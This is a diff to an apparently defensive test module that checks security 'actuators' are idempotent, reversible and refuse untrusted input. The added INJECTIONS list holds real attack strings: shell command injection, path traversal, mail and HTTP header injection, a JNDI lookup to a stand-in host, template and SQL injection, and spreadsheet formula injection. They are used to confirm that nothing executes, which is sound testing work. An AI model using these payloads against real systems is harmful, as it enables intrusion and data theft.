@@ -15,16 +15,29 @@ import json
 import random
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from copy import deepcopy
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
+from functools import partial
 from inspect import isclass
+from pathlib import Path
+from tempfile import TemporaryDirectory
 from typing import Any
 
 import msgspec
 
+from cityward.command import Command, Target
+from cityward.errors import TransientError, Unsafe
 from cityward.event import Event, Record
 from cityward.fields import FIELDS, faults
 from cityward.finding import EVENTS_KEPT, SEVERITIES, Finding
-from cityward.plugin import CollectorSpec, DecoderSpec, Detector, Session, Transport
+from cityward.plugin import (
+    Actuator,
+    ActuatorSpec,
+    CollectorSpec,
+    DecoderSpec,
+    Detector,
+    Session,
+    Transport,
+)
 
 NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
 """When the records of a check are received."""
@@ -35,6 +48,8 @@ KEYWORD_MAX = 40_000
 SNAPSHOT_MAX_BYTES = 64 << 20
 STRANGERS = 20_000
 """How many addresses a detector meets that it has never seen."""
+SHORTER = timedelta(seconds=5)
+"""A device that counts in seconds may end an effect so much before what it was told."""
 
 TOKENS = (
     b"\x00",
@@ -512,6 +527,257 @@ def _stranger(events: Sequence[Event], number: int) -> Event:
     fields = {**event.fields, "source.ip": address}
     record = msgspec.structs.replace(event.record, place=f"stranger {number}")
     return Event(event.time, event.logsource, fields, record, event.number)
+
+
+# ---- Actuators
+
+INJECTIONS = (
+    "; touch {mark}",
+    "&& touch {mark}",
+    "| touch {mark}",
+    "`touch {mark}`",
+    "$(touch {mark})",
+    "\ntouch {mark}\n",
+    "'; touch {mark}; '",
+    '"; touch {mark}; "',
+    "-oProxyCommand=touch {mark}",
+    "--config={mark}",
+    "-c {mark}",
+    "../../../../{mark}",
+    "/etc/passwd",
+    "..\\..\\windows",
+    "a\x00b",
+    "\x1b[2J\x1b]0;title\x07",
+    "x\r\nBcc: thief@example.net",
+    "x\nSubject: you won",
+    "x\r\n\r\n<html>body</html>",
+    "x\r\nX-Injected: 1",
+    "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /",
+    "thief@example.net, soc@operator.example",
+    "<thief@example.net>",
+    "RCPT TO:<thief@example.net>",
+    "\r\n.\r\nMAIL FROM:<thief@example.net>",
+    "{{7*7}}",
+    "{% for x in y %}{{x}}{% endfor %}",
+    "${{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "#{7*7}",
+    "%s%s%s%n",
+    "{0.__class__}",
+    "<script>alert(1)</script>",
+    "=cmd|' /C calc'!A0",
+    "' OR 1=1 --",
+    '"}],"commands":[{"command":"deleteClient"',
+    "203.0.113.7 } ; flush ruleset ; add element inet filter x {",
+    "a.example transparent\nlocal_zone_remove b.example",
+    "\u202egnp.exe",
+    "\ud800",
+    "＄（touch）",
+    "A" * 70_000,
+)
+"""What strangers write in the hope that somebody executes it; `{mark}` is a file."""
+
+
+def check_actuator(
+    part: Actuator,
+    target: Target,
+    *,
+    args: Mapping[str, Any] | None = None,
+    look: Callable[[], Any] = lambda: None,
+) -> None:
+    """Check what an actuator promises, on a real program; it is left as it was found.
+
+    Planning and looking change nothing. After a command it holds, and nothing more is planned; the
+    same command again changes nothing. Undoing brings back what was found. Whatever is not its own
+    – verb, type of target, a value that strangers made up – is refused with `Unsafe`, and no word
+    of it is executed.
+
+    Args:
+        part: One that is set up; its class was marked by `@actuator`.
+        target: Something it may act on, on which nothing holds yet.
+        args: Arguments of the step.
+        look: Tells the state of the program as somebody else sees it, in values that compare;
+            where nothing is undone, what has arrived, each once.
+
+    Raises:
+        AssertionError: a promise is broken; the message says which.
+    """
+    spec = getattr(type(part), "cityward_spec", None)
+    name = _name(type(part))
+    assert isinstance(spec, ActuatorSpec), f"{name} is not marked with @actuator"
+    _is_consistent(name, spec)
+    _refuses_strangers(name, spec, part, target, look)
+    for verb in spec.verbs:
+        if spec.verbs[verb]:
+            _is_undone(name, part, verb, target, args or {}, look)
+        else:
+            _is_said_once(name, part, verb, target, args or {}, look)
+
+
+def check_actuator_alone(
+    part: Actuator, target: Target, *, args: Mapping[str, Any] | None = None
+) -> None:
+    """Check that an actuator whose program is missing says so, and that it is worth trying again.
+
+    Raises:
+        AssertionError: it claims something about a program that it cannot ask.
+    """
+    spec, name = type(part).cityward_spec, _name(type(part))  # type: ignore[attr-defined]
+    for verb, undo in spec.verbs.items():
+        command = Command(verb, target, undo, _later(), args or {}, key="check")
+        asked: list[Callable[[], Any]] = [partial(part.apply, command)]
+        if undo:
+            asked.append(partial(part.probe, target))
+            asked.append(partial(part.apply, _back(command, {})))
+        for ask in asked:
+            try:
+                ask()
+            except TransientError:
+                continue
+            except Exception as error:
+                said = f"{name} raises {error!r} instead of TransientError without its program"
+                raise AssertionError(said) from error
+            raise AssertionError(f"{name} acts as if its program were there")
+
+
+def _is_consistent(name: str, spec: ActuatorSpec) -> None:
+    assert spec.verbs, f"{name} has no verb"
+    assert spec.action_class in ("A0", "A1", "A2", "A3"), f"{name}: no class {spec.action_class}"
+    is_told = spec.action_class == "A0"
+    assert is_told == (spec.rollback == "none"), f"{name} does not say who ends what it does"
+    assert spec.rollback in ("device", "lease", "journal", "none"), f"{name}: {spec.rollback}?"
+    for verb, undo in spec.verbs.items():
+        assert bool(undo) != is_told, f"{name} does not say how {verb} is taken back"
+        assert undo not in spec.verbs, f"{name}: {undo} takes back {verb}, and is a verb itself"
+
+
+def _is_undone(
+    name: str,
+    part: Actuator,
+    verb: str,
+    target: Target,
+    args: Mapping[str, Any],
+    look: Callable[[], Any],
+) -> None:
+    world, before, until = look(), part.probe(target), _later()
+    assert not before.is_applied, f"{name} is given a target on which something holds: {target}"
+    commands = _planned(name, part, verb, target, until, args)
+    assert commands, f"{name} plans nothing for {verb}, though nothing holds"
+    _planned(name, part, verb, target, until, args)
+    assert part.probe(target) == before, f"{name} changes the world by planning"
+    assert look() == world, f"{name} changes the world by planning"
+    for command in commands:
+        part.apply(command)
+    state, changed = part.probe(target), look()
+    assert state.is_applied, f"{name} does not show that {verb} holds"
+    assert state.until is None or abs(state.until - until) <= SHORTER, (
+        f"{name} lets {verb} hold until {state.until} instead of {until}"
+    )
+    more = list(part.plan(verb, target, until))
+    assert not more, f"{name} plans {verb} again, though it holds"
+    for command in commands:
+        part.apply(command)
+    assert part.probe(target).is_applied, f"{name} takes back {verb} when it is told twice"
+    assert look() == changed, f"{name} does more when it is told {verb} twice"
+    for _ in range(2):
+        for command in reversed(commands):
+            part.apply(_back(command, command.prior))
+        now = part.probe(target)
+        assert now == before, f"{name} found {before.found} and brings back {now.found}"
+        assert look() == world, f"{name} leaves something behind when {verb} is undone"
+
+
+def _is_said_once(
+    name: str,
+    part: Actuator,
+    verb: str,
+    target: Target,
+    args: Mapping[str, Any],
+    look: Callable[[], Any],
+) -> None:
+    world = look()
+    commands = _planned(name, part, verb, target, _later(), args)
+    assert commands, f"{name} plans nothing for {verb}"
+    assert look() == world, f"{name} changes the world by planning"
+    for command in commands:
+        part.apply(command)
+    changed = look()
+    for command in commands:
+        part.apply(command)
+    assert look() == changed, f"{name} does {verb} again for the same key"
+
+
+def _planned(
+    name: str,
+    part: Actuator,
+    verb: str,
+    target: Target,
+    until: datetime,
+    args: Mapping[str, Any],
+) -> list[Command]:
+    """Commands as they come back from a journal, with a key each."""
+    undo = type(part).cityward_spec.verbs[verb]  # type: ignore[attr-defined]
+    made = []
+    for number, one in enumerate(part.plan(verb, target, until)):
+        assert one.target == target, f"{name} plans for {one.target} instead of {target}"
+        assert (one.undo, one.until) == (undo, until), f"{name} plans another end than was asked"
+        whole = msgspec.structs.replace(one, args={**one.args, **args}, key=f"check-{number}")
+        try:
+            made.append(msgspec.json.decode(msgspec.json.encode(whole), type=Command))
+        except (TypeError, ValueError) as error:
+            raise AssertionError(f"{name} plans what no journal can keep: {error}") from error
+        assert made[-1] == whole, f"{name} plans what a journal gives back as something else"
+    return made
+
+
+def _refuses_strangers(
+    name: str, spec: ActuatorSpec, part: Actuator, target: Target, look: Callable[[], Any]
+) -> None:
+    world = look()
+    verbs = [verb for pair in spec.verbs.items() for verb in pair if verb]
+    with TemporaryDirectory() as folder:
+        mark = Path(folder, "mark")
+        strange = [one.replace("{mark}", str(mark)) for one in INJECTIONS]
+        kinds = spec.targets or ("device",)
+        targets = [Target(kind, value) for kind in kinds for value in ("", *strange)]
+        targets += [Target("process", "1"), *(Target(one, target.value) for one in strange if one)]
+        for one in targets:
+            what = f"the target {one}"
+            _refuses_it(name, what, partial(part.probe, one))
+            for verb in verbs:
+                command = Command(verb, one, "", _later(), key="check")
+                _refuses_it(name, what, partial(part.apply, command))
+            for verb in spec.verbs:
+                _refuses_it(name, what, partial(_all_planned, part, verb, one))
+        for verb in ("", "detonate", *strange):
+            command = Command(verb, target, "", _later(), key="check")
+            _refuses_it(name, f"the verb {verb!r}", partial(part.apply, command))
+            _refuses_it(name, f"the verb {verb!r}", partial(_all_planned, part, verb, target))
+        assert not mark.exists(), f"{name} executes what strangers write"
+    assert look() == world, f"{name} changes the world by what it refuses"
+
+
+def _refuses_it(name: str, what: str, ask: Callable[[], Any]) -> None:
+    try:
+        ask()
+    except Unsafe:
+        return
+    except Exception as error:
+        said = f"{name} raises {type(error).__name__} instead of Unsafe for {what[:120]}"
+        raise AssertionError(said) from error
+    raise AssertionError(f"{name} takes {what[:120]}")
+
+
+def _all_planned(part: Actuator, verb: str, target: Target) -> list[Command]:
+    return list(part.plan(verb, target, _later()))
+
+
+def _back(command: Command, prior: Mapping[str, Any]) -> Command:
+    return msgspec.structs.replace(command, verb=command.undo, undo=command.verb, prior=prior)
+
+
+def _later() -> datetime:
+    return datetime.now(UTC).replace(microsecond=0) + timedelta(hours=1)
 
 
 def _name(part: Any) -> str:
